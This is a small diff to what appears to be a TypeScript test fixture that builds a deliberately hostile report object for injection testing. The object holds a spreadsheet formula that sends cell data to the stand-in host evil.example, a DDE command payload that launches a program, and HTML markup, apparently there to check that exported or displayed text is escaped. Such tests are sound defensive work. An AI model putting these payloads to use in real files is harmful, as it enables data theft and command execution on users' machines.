@@ -30,6 +30,7 @@ function hostileReport(): Report {
         id: "c1",
         text: `=HYPERLINK("http://evil.example/?"&A1,"click") ${HOSTILE}`,
         wording: "+SUM(1,2)",
+        inText: true,
         suggestedWording: `=cmd|"/C calc"!A0 <b>bold</b>`,
         claimant: "@attacker &lt;i&gt;",
         status: "final",
